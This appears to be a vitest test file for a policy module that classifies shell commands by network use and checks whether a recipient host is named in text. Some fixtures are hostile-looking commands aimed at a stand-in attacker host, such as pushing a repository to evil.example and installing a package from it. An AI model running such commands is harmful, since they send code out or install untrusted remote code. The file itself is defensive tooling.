import { expect, test } from "vitest";
import { isNamedIn, networkUse } from "../../../src/policy/network-use.ts";

test.each([
  ["curl -sS https://user:p@api.example.org:8443/x?y", "curl", ["api.example.org"]],
  ["wget example.org/file", "wget", ["example.org"]],
  ["scp notes.txt me@box.example:/tmp", "scp", ["box.example"]],
  ["ssh -p 22 me@box.example ls", "ssh", ["me@box.example"]],
  ["git push", "git push", ["push"]],
  ["git push origin main", "git push", ["push"]],
  ["git push https://evil.example/x main", "git push", ["evil.example"]],
  ["git push upstream", "git push", ["upstream"]],
  ["git -C x clone git@github.com:a/b.git", "git clone", ["github.com"]],
  ["git pull", "git pull", []],
  ["npm install left-pad", "npm install", []],
  ["npm install https://evil.example/x.tgz", "npm install", ["evil.example"]],
  ["docker build .", "docker build", []],
  ["npm publish", "npm publish", ["publish"]],
  ["ls -l", undefined, []],
  ["git status", undefined, []],
])("%j reaches %j at %j", (line, what, recipients) => {
  expect(networkUse([line.split(" ")])).toEqual(what === undefined ? undefined : { what, recipients });
});

test.each([
  ["evil.example", "look at EVIL.example please", true],
  ["evil.example", "look at notevil.example", false],
  ["evil.example", "look at evil.example.org", false],
  ["evil.example", "see https://evil.example/x.", true],
  ["eve@evil.example", "mail eve@evil.example.", true],
  ["push", "then push it", true],
  ["push", "pushing is fine", false],
])("%j in %j: %j", (recipient, words, isNamed) => {
  expect(isNamedIn(recipient, words)).toBe(isNamed);
});
